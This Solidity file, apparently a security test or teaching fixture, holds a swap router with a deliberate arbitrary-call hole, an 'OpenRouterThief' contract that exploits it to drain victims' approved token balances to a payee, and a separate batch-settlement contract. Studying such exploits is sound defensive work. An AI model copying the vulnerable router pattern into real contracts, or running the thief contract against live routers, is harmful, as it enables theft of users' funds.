// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";
import {Pool} from "../props/Markets.sol";

struct Hop {
    address exchange;
    bytes data;
}

/// A router that its users have approved. It calls whatever exchange the caller names, with whatever the caller says.
contract OpenRouter {
    event Swapped(address indexed trader, address indexed tokenIn, address indexed tokenOut, uint256 paid, uint256 got);

    function swap(Token tokenIn, uint256 amount, Token tokenOut, uint256 least, Hop[] calldata hops)
        external
        returns (uint256 got)
    {
        if (amount > 0) tokenIn.transferFrom(msg.sender, address(this), amount);
        for (uint256 i = 0; i < hops.length; i++) {
            tokenIn.approve(hops[i].exchange, amount);
            // The exchange may be a token, and the call a transferFrom.
            (bool ok,) = hops[i].exchange.call(hops[i].data);
            require(ok, "a hop failed");
        }
        got = tokenOut.balanceOf(address(this));
        require(got >= least, "too little");
        if (got > 0) tokenOut.transfer(msg.sender, got);
        emit Swapped(msg.sender, address(tokenIn), address(tokenOut), amount, got);
    }
}

contract OpenRouterThief {
    function take(OpenRouter router, Token token, address[] calldata victims, address payee) external {
        Hop[] memory hops = new Hop[](victims.length);
        for (uint256 i = 0; i < victims.length; i++) {
            uint256 most = token.balanceOf(victims[i]);
            uint256 allowed = token.allowance(victims[i], address(router));
            bytes memory data = abi.encodeCall(token.transferFrom, (victims[i], payee, most < allowed ? most : allowed));
            hops[i] = Hop(address(token), data);
        }
        router.swap(token, 0, token, 0, hops);
    }
}

/// Settles the orders of many in one trade, as a solver of a batch auction does. Orders stand on chain.
contract BatchSettlement {
    struct Order {
        address owner;
        uint256 sell;
        uint256 least;
    }

    Token public immutable sold;
    Token public immutable bought;
    Order[] public orders;
    address public immutable solver = msg.sender;

    event Placed(uint256 indexed id, address indexed owner, uint256 sell, uint256 least);
    event Trade(address indexed owner, uint256 sell, uint256 buy);
    event Settlement(address indexed solver);

    constructor(Token sold_, Token bought_) {
        (sold, bought) = (sold_, bought_);
    }

    function place(uint256 sell, uint256 least) external {
        emit Placed(orders.length, msg.sender, sell, least);
        orders.push(Order(msg.sender, sell, least));
    }

    function settle(uint256[] calldata ids, Pool pool) external {
        require(msg.sender == solver, "not a solver");
        uint256 total;
        for (uint256 i = 0; i < ids.length; i++) {
            sold.transferFrom(orders[ids[i]].owner, address(this), orders[ids[i]].sell);
            total += orders[ids[i]].sell;
        }
        sold.approve(address(pool), total);
        uint256 out = pool.sell(sold, total, address(this));
        for (uint256 i = 0; i < ids.length; i++) {
            Order memory order = orders[ids[i]];
            uint256 part = out * order.sell / total;
            require(order.sell > 0 && part >= order.least, "below the limit");
            orders[ids[i]].sell = 0;
            bought.transfer(order.owner, part);
            emit Trade(order.owner, order.sell, part);
        }
        emit Settlement(msg.sender);
    }
}
